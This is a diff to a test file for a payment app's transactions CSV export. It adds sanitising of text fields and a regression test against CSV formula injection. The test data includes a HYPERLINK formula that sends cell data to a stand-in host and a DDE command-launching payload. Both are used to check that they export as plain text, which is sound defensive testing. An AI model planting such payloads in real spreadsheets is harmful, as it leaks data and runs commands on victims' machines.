@@ -8,6 +8,7 @@ import { USD_PRODUCT_INFO, seeMadeUpPaymentPaid, startMadeUpPayment } from "../.
 import { transactionsCsv } from "./csv";
 import { signInMerchant } from "../../testing/merchants";
 import { stringify } from "csv-stringify/sync";
+import { csvSafeText } from "@/lib/csv-cell";
 import fc from "fast-check";
 import { formatBaseUnits } from "@/lib/money";
 import { orderTypeLabel } from "@/lib/order-types";
@@ -318,14 +319,14 @@ describe.each(TEST_BACKENDS)("Orders (/transactions) on %s", (kind) => {
       ["Date", "Order ID", "Requested Amount", "Received Amount", "Currency", "Status", "Type", "Hash", "Payer", "Chain"],
       ...rows.map((r) => [
         r.createdAt.toISOString(),
-        r.merchantExtras?.orderId ?? r.publicId,
+        csvSafeText(r.merchantExtras?.orderId ?? r.publicId),
         formatBaseUnits(r.requestedAmount, r.decimals),
         r.receivedAmount === null ? "" : formatBaseUnits(r.receivedAmount, r.decimals),
-        r.token,
+        csvSafeText(r.token),
         r.refundedAt ? "refunded" : r.status,
         orderTypeLabel(r.productType),
-        r.signature ?? "",
-        r.payer ?? "",
+        csvSafeText(r.signature ?? ""),
+        csvSafeText(r.payer ?? ""),
         String(r.chainId),
       ]),
     ]);
@@ -333,6 +334,18 @@ describe.each(TEST_BACKENDS)("Orders (/transactions) on %s", (kind) => {
     expect(await res.text()).toBe(expected);
     // Batches of three: the same bytes.
     expect(await new Response(transactionsCsv(suite.database, { userId: m.id, filters: null, timeZone: "UTC" }, 3)).text()).toBe(expected);
+  });
+
+  it("csv injection: a zAPI orderId of =HYPERLINK( and a payer of @SUM reach transactions.csv as text, never as a formula", async () => {
+    const m = await signInMerchant(suite.app);
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
+    const tx = await payment(m, { paid: true });
+    await suite.db.update(transactions).set({ merchantExtras: { orderId: evil }, payer: "@SUM(1+1)*cmd|' /C calc'!A0" }).where(eq(transactions.id, tx.id));
+    const [, line] = (await (await get(`/transactions?limit=all&${ALL}`, m)).text()).trim().split("\n");
+    expect(line).toContain(`,${stringify([[`'${evil}`]]).trim()},`);
+    expect(line).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
+    // No text cell, quoted or not, starts a formula (the chain id, a number we write, may be negative).
+    for (const trigger of ["=", "+", "@"]) expect(line).not.toMatch(new RegExp(`(^|,)"?\\${trigger}`));
   });
 
   it("finds in the CSV an order id holding quotes, backslashes and dollar signs, and answers 400 for a NUL, not an error", async () => {
